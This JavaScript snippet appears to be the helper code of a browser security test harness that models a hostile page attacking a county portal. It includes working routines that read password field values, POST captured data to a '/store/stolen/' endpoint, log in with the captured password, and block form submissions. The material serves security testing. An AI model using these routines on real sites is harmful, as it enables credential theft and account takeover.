// What every hostile page can do. The attack is over when the page's title is "done".
const natural = { fetch: window.fetch, parse: JSON.parse };
const user = "wang";
// Where everything of the county is, and its portal.
const county = location.hostname.split(".").slice(-2).join(".");
const portal = location.origin.replace(location.hostname, `portal.${county}`).replace(/\d+$/, (port) => port - 1);
const pause = (milliseconds) => new Promise((soon) => setTimeout(soon, milliseconds));
const until = async (ready) => { for (;;) { const found = ready(); if (found) return found; await pause(20); } };
const attempt = async (act) => { try { return await act(); } catch (error) { return String(error); } };
const dummyOf = async (view = window) => until(() => {
  const field = view.document.querySelector("input[type=password]");
  return field && field.value;
});
// What the page has got hold of goes to where everybody can read it.
const steal = (name, bytes) => natural.fetch.call(window, `/store/stolen/${encodeURIComponent(name)}`, { method: "POST", body: bytes });
const signIn = (dummy) => natural.fetch.call(window, `/${attack}/login`, {
  method: "POST",
  headers: { "content-type": "application/x-www-form-urlencoded" },
  body: `username=${user}&password=${encodeURIComponent(dummy)}`,
});
const holdForm = () => addEventListener("submit", (event) => event.preventDefault(), true);
